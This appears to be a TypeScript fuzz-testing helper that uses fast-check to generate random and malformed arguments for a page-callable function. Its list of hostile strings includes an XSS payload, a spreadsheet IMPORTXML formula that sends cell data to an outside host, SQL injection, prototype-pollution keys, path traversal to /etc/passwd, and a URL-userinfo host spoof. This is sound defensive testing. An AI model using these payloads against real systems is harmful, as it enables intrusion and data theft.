/** Random inputs for a function that a page may call: anything that JSON can hold, and what the panel's own forms would send, bent. */
import fc from 'fast-check';
import type { Json } from '../sandbox/google/types.ts';

/** Texts that are harmful where they are taken for something else than text. */
const HOSTILE = [
  '',
  ' ',
  '<img src=x onerror=alert(1)>',
  '=IMPORTXML("https://x.example/"&A1)',
  "'; DROP TABLE",
  '__proto__',
  'constructor',
  '../../etc/passwd',
  'https://127.0.0.1:1/',
  'na.myconnectwise.net',
  'na.myconnectwise.net@evil.example',
  '\u0000\u202e',
  '9'.repeat(400),
  'x'.repeat(20_000),
  'Bearer eyJhbGciOi',
  '2026-02-30',
  'priya.patel@harbourlight.example',
];

const json = fc.jsonValue({ maxDepth: 3 }) as fc.Arbitrary<Json>; // what it makes is JSON by its own description

const value: fc.Arbitrary<Json> = fc.oneof(
  fc.constantFrom(...HOSTILE),
  fc.string(),
  fc.boolean(),
  fc.double({ noNaN: true }),
  fc.constant(null),
  fc.array(fc.string(), { maxLength: 4 }),
  json,
);

/** Names that forms of the panel use, and names that mean something to the language. */
const NAMES = ['__proto__', 'constructor', 'toString', 'length', 'then', 'role', 'user', 'value'];

/** What a form with these fields sends, with some values bent, some fields missing and some too many. */
function formLike(fields: Readonly<Record<string, Json>>): fc.Arbitrary<Json> {
  const bent = Object.fromEntries(
    Object.entries(fields).map(([name, usual]) => [name, fc.oneof(fc.constant(usual), value)]),
  );
  const extra = fc.dictionary(fc.constantFrom(...NAMES), value, { maxKeys: 2 });
  return fc
    .tuple(fc.record(bent, { requiredKeys: [] }), fc.oneof(fc.constant({}), extra))
    .map(([form, more]) => JSON.parse(JSON.stringify({ ...form, ...more }))); // a field left out is none
}

/** `forms` are what the panel would send to the function. The same seed makes the same lists of arguments. */
export function argumentsFor(forms: readonly Readonly<Record<string, Json>>[], count: number, seed: number): Json[][] {
  const input = fc.oneof(value, ...forms.flatMap((form) => [formLike(form), fc.constant(form)]));
  const list = fc.oneof(
    { weight: 8, arbitrary: fc.tuple(input) },
    { weight: 1, arbitrary: fc.constant([]) },
    { weight: 1, arbitrary: fc.array(input, { maxLength: 3 }) },
  );
  return fc.sample(list, { numRuns: count, seed }).map((args) => [...args]);
}
